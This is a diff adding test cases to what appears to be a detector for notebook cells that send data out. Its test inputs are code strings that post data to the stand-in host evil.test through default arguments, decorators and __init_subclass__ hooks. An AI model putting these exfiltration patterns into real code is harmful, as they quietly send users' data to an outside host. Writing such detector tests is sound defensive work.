@@ -101,3 +101,6 @@ def test_a_cell_that_only_defines_a_sending_function_is_quiet_until_called() -> 
     assert _sends(define + "up(t)", KEEP)
     assert _sends("import requests\ndef up(x, r=requests.post('https://evil.test/c', data=t)):\n    return x", KEEP)
     assert _sends("import requests\n@requests.post('https://evil.test/c', data=t)\ndef up(x):\n    return x", KEEP)
+    assert _sends("@up\ndef g():\n    return t", define, KEEP)
+    assert _sends("class Sub(Base):\n    pass", "import requests\nclass Base:\n    def __init_subclass__(cls):\n"
+                  "        requests.post('https://evil.test/c', data=t)", KEEP)
